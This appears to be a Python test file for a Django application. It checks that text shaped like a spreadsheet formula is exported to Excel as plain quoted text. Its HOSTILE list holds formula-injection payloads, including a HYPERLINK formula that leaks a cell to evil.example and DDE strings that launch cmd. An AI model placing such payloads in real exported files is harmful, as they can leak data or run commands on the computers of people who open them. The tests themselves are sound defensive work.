"""Formula injection (issue 15, finding 9): text a person typed that starts like a formula is
exported as text in every Excel export — shown as typed, never a live formula."""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from mashang.core.spreadsheet import (
    FORMULA_STARTS,
    Column,
    Sheet,
    cell_neutralise,
    sheet_workbook,
    sheets_workbook,
    workbook_bytes,
)
from mashang.landstart.batch_export import batch_workbook
from mashang.meetings.export import action_item_workbook
from mashang.projects.ledger.export import ledger_workbook
from mashang.supervision.scorecards import formulas as sc
from mashang.supervision.scorecards.export import scorecard_workbook
from mashang.supervision.scorecards.selectors import scorecard_get
from tests.kit.clocks import CST

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
NOW = datetime(2026, 11, 20, 10, 0, tzinfo=CST)


def _cells(content: bytes):
    wb = load_workbook(BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_text_not_formula(content: bytes, hostile: list[str]) -> None:
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for value in hostile:
        found = [c for c in cells if c.value == value]
        assert found, f"{value!r} is not in the workbook as typed"
        for c in found:
            assert c.data_type == "s" and c.quotePrefix, (value, c.coordinate)


@given(
    start=st.sampled_from(FORMULA_STARTS),
    rest=st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=20),
)
def test_text_starting_like_a_formula_stays_text_as_typed(start, rest):
    ws = Workbook().active
    cell = cell_neutralise(ws.cell(1, 1, start + rest))
    assert cell.value == start + rest
    assert cell.data_type == "s" and cell.quotePrefix


@given(st.one_of(st.integers(max_value=-1), st.decimals(max_value=-1, allow_nan=False, places=2)))
def test_negative_numbers_stay_numbers(number):
    ws = Workbook().active
    cell = cell_neutralise(ws.cell(1, 1, number))
    assert cell.data_type == "n" and not cell.quotePrefix


def test_ordinary_text_is_untouched():
    ws = Workbook().active
    cell = cell_neutralise(ws.cell(1, 1, "电池项目 = 第一期"))
    assert cell.data_type == "s" and not cell.quotePrefix


def test_the_list_exports_keep_hostile_text_as_text():
    """Demands, notices, commitments and the land-start history are written by these two."""
    columns = [Column("名称", 20), Column("金额", 12, "#,##0.00")]
    rows = [[value, Decimal("-12.50")] for value in HOSTILE]
    one = sheet_workbook(
        title=HOSTILE[0], columns=columns, rows=rows, notes=[HOSTILE[3]], sheet_name="清单"
    )
    _assert_text_not_formula(one, HOSTILE)
    many = sheets_workbook(title="x", sheets=[Sheet(HOSTILE[1], columns, rows, [HOSTILE[2]], name="清单")])
    _assert_text_not_formula(many, HOSTILE)
    amounts = [c for c in _cells(one) if c.value == Decimal("-12.5") or c.value == -12.5]
    assert len(amounts) == len(HOSTILE) and all(c.data_type == "n" for c in amounts)


def test_a_formatted_workbook_is_saved_with_every_cell_neutralised():
    wb = Workbook()
    for i, value in enumerate(HOSTILE, start=1):
        wb.active.cell(i, 1, value)
    wb.active.cell(1, 2, -5)
    _assert_text_not_formula(workbook_bytes(wb), HOSTILE)
    assert load_workbook(BytesIO(workbook_bytes(wb))).active.cell(1, 2).value == -5


@pytest.mark.django_db
def test_the_project_ledger_keeps_a_hostile_name_as_text(zone, make_project):
    for value in HOSTILE[:4]:
        make_project(name=value)  # (the service trims a leading tab from what it stores)
    content = ledger_workbook(actor=zone.leader, today=date(2026, 11, 20))
    _assert_text_not_formula(content, HOSTILE[:4])


@pytest.mark.django_db
def test_the_scorecards_keep_a_hostile_unit_name_as_text(zone):
    zone.land.name = HOSTILE[0]
    zone.land.save(update_fields=["name"])
    period = sc.Period(date(2026, 11, 1), date(2026, 12, 1))
    card = scorecard_get(actor=zone.supervisor, period=period, now=NOW)
    _assert_text_not_formula(scorecard_workbook(card), HOSTILE[:1])


def test_the_action_items_keep_hostile_text_as_text():
    unit = SimpleNamespace(name=HOSTILE[3])
    meeting = SimpleNamespace(number="HY-2026-001", title="研判会")
    demand = SimpleNamespace(
        number="SQ-1", status="closed", next_due_at=None, resolution_due_at=None,
        get_status_display=lambda: "已办结",
    )
    item = SimpleNamespace(
        demand=demand, title=HOSTILE[0], item=SimpleNamespace(meeting=meeting, decision=HOSTILE[1]),
        lead_unit=unit, co_units=SimpleNamespace(all=lambda: []), owner_id=None,
        closing_rule=HOSTILE[2],
    )
    content = action_item_workbook([item], list_label=HOSTILE[4], unit_label="全部", now=NOW)
    _assert_text_not_formula(content, HOSTILE[:4])


def test_the_batch_board_keeps_hostile_text_as_text():
    run = SimpleNamespace(
        project_number="XM-1", project_name=HOSTILE[0], state="running", awarded_at=NOW,
        completed_at=None, elapsed_minutes=-1.5, done=1, total=8, active=[SimpleNamespace(name="契税")],
    )
    item = SimpleNamespace(
        project_number="XM-1", project_name=HOSTILE[0], name=HOSTILE[1], state="waiting",
        started_at=None, completed_at=None, minutes=None, waiting_on=(HOSTILE[2],),
    )
    board = SimpleNamespace(
        batch=SimpleNamespace(number="PC-1", name=HOSTILE[3], award_from=date(2026, 11, 1),
                              award_to=date(2026, 11, 30)),
        record=SimpleNamespace(completed=0),
        now=NOW,
        runs=[run],
        units=[SimpleNamespace(unit_name=HOSTILE[4], items=[item])],
    )
    content = batch_workbook(board)
    _assert_text_not_formula(content, [HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[4]])
    minutes = [c for c in _cells(content) if c.value == -1.5]
    assert minutes and all(c.data_type == "n" for c in minutes)
